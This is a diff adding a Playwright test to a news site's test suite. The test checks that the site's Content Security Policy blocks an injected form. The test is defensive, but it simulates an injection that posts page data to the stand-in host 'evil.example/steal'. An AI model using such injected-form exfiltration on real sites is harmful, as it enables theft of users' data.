@@ -8,6 +8,7 @@ import { createNewsClient } from '../../src/sdk/client.js';
 import { NewsHttpError } from '../../src/sdk/errors.js';
 import type { Article } from '../../src/sdk/schemas.js';
 import type { RunningServer } from '../src/server.js';
+import { chromium } from 'playwright-core';
 import { admin, backend, draft, freshIp, openTestEnv, solve, type TestEnv } from './helpers.js';
 
 let env: TestEnv;
@@ -144,6 +145,31 @@ describe(`demo site (${backend})`, () => {
     assert.equal(wrongLang.status, 301);
     assert.equal(wrongLang.headers.get('location'), '/fa/news/1003');
     assert.equal((await fetch(`${base}/en/news/999999`)).status, 404);
+  });
+
+  it('its CSP stops a form injected into a page from posting anywhere else (form-action)', async () => {
+    const browser = await chromium.launch({
+      executablePath: process.env.CHROME_PATH || '/usr/bin/chromium',
+      args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'],
+    });
+    try {
+      const page = await browser.newPage();
+      await page.goto(`${base}/en/news/1001`);
+      // What an injected form would do: post the page's data to another origin.
+      const violated = await page.evaluate(`new Promise((resolve) => {
+        document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), { once: true });
+        const form = document.createElement('form');
+        form.action = 'https://evil.example/steal';
+        form.method = 'post';
+        document.body.append(form);
+        form.submit();
+        setTimeout(() => resolve('none'), 3000);
+      })`);
+      assert.equal(violated, 'form-action');
+      assert.equal(new URL(page.url()).origin, base, 'still on the page');
+    } finally {
+      await browser.close();
+    }
   });
 
   it('escapes approved comments: text, never HTML', async () => {
